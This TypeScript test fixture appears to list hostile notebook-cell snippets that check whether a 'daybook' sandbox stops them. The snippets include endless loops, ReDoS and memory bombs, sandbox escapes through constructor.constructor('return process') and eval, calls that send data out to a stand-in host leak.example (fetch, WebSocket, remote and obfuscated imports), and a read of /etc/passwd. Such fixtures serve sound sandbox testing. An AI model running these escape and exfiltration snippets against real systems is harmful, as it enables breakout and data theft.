/**
 * Cells that want out, or that want everything. Each is tried at build, where it must be
 * a problem of its own day, and in the browser, where it must be an error below its cell.
 */
export const hostile: Hostile[] = [
  endless('loop', 'while (true) {}'),
  endless('microtasks', 'for (;;) await 0;'),
  endless('promises', 'const go = (): Promise<void> => Promise.resolve().then(go);\nawait go();'),
  endless('timer', 'setInterval(() => {}, 1);'),
  endless(
    'timers-that-double',
    'const grow = () => {\n  setTimeout(grow, 1);\n  setTimeout(grow, 1);\n};\ngrow();',
  ),
  endless('pattern', "/^(a+)+$/.test('a'.repeat(60) + 'b');"),
  endless('output', "for (;;) console.log('again');"),
  endless(
    'stack',
    "const error = new Error('x');\nObject.defineProperty(error, 'stack', { get: () => { for (;;); } });\nthrow error;",
  ),
  endless(
    'proxy',
    'const get = (): any => { for (;;); };\nthrow new Proxy({}, { get, getPrototypeOf: get });',
  ),
  endless(
    'loads',
    "const { load } = await import('daybook/data');\nfor (let at = 0; ; at++) load(`none-${at}` as never).catch(() => 0);",
  ),
  endless(
    'tables',
    "const row = Object.fromEntries(Array.from({ length: 50 }, (_, at) => [`c${at}`, 'x'.repeat(199)]));\nfor (;;) console.table(Array.from({ length: 50 }, () => row));",
  ),
  endless('array', 'function* ones() {\n  for (;;) yield 1;\n}\nArray.from(ones()).length;'),
  {
    ...endless(
      'heap',
      'const all: unknown[] = [];\nfor (;;) all.push(Array.from({ length: 999 }, () => ({})));',
    ),
    seconds: 20,
    saysAtBuild: /took more memory than a cell can have/,
  },
  endless(
    'gigabytes',
    'const all: unknown[] = [];\nfor (;;) all.push(new Uint8Array(4 * 2 ** 30));',
  ),
  throws('text-bomb', "let text = 'x';\nfor (;;) text += text;", /Invalid string length/),
  throws('deadlock', 'await new Promise(() => {});', /waits for something that never comes/),
  throws('recursion', 'const down = (): number => down() + 1;\ndown();', /Maximum call stack/),
  throws('exit', '(globalThis as any).process.exit(0);', /of undefined/),
  throws('number', `(0 as any).constructor.constructor('return process')().exit(0);`, noCode()),
  throws(
    'import',
    "const { display } = await import('daybook');\n(display as any).constructor('return process')().exit(0);",
    noCode(),
  ),
  throws(
    'caught',
    "try {\n  (null as any).toString();\n} catch (error) {\n  (error as any).constructor.constructor('return process')().exit(0);\n}",
    noCode(),
  ),
  throws(
    'proofs',
    "const { prove } = await import('daybook');\nfor (let at = 0; ; at++) (prove as any)(`q${at}`, at);",
    /more outputs than are kept/,
  ),
  throws('eval', "(0, eval)('process').exit(0);", noCode()),
  throws('fetch', "await (globalThis as any).fetch('/leak');", /fetch is not a function/),
  throws(
    'socket',
    "new (globalThis as any).WebSocket('wss://leak.example/');",
    /not a constructor/,
  ),
  throws('messages', 'for (;;) (globalThis as any).postMessage(1);', /not a function/),
  throws('close', '(globalThis as any).close();', /not a function/),
  throws('scripts', "(globalThis as any).importScripts('/leak.js');", /not a function/),
  throws('page', "(globalThis as any).parent.document.body.textContent = '';", /of undefined/),
  throws('storage', "(globalThis as any).localStorage.setItem('leak', '1');", /of undefined/),
  throws('node', "import fs from 'node:fs';\nfs.readFileSync('/etc/passwd');", /cannot import/),
  throws('address', "await import('https://leak.example/module.js');", /cannot import/),
  throws(
    'hidden-address',
    "await import(['https:', '', 'leak.example', 'module.js'].join('/'));",
    /cannot import|Failed to fetch/,
  ),
  throws(
    'hidden-code',
    "const text = 'data:text/javascript,export default 1';\nthrow await import(text);",
    /cannot import|Failed to fetch/,
  ),
  throws(
    'thenable',
    "export function then(resolve: any) {\n  resolve.constructor('return process')().exit(0);\n}\nthrow new Error('as it must');",
    /as it must/,
  ),
];

/** What does not end by itself: it is stopped, or asks for more than there is. */
function endless(name: string, code: string): Hostile {
  return {
    name: `endless-${name}`,
    code,
    says: /not end within|Stopped: |more memory|allocation failed/,
  };
}

/** What ends at once, with an error. */
function throws(name: string, code: string, says: RegExp): Hostile {
  return { name, code, says };
}

/** A text cannot become code; where it can, the code finds nothing. */
function noCode(): RegExp {
  return /Code generation from strings|unsafe-eval|process is not defined|of undefined/;
}

export interface Hostile {
  name: string;
  code: string;
  /** What the author or the reader is told. */
  says: RegExp;
  saysAtBuild?: RegExp;
  /** How long the build lets it run; 1 if left out. */
  seconds?: number;
}
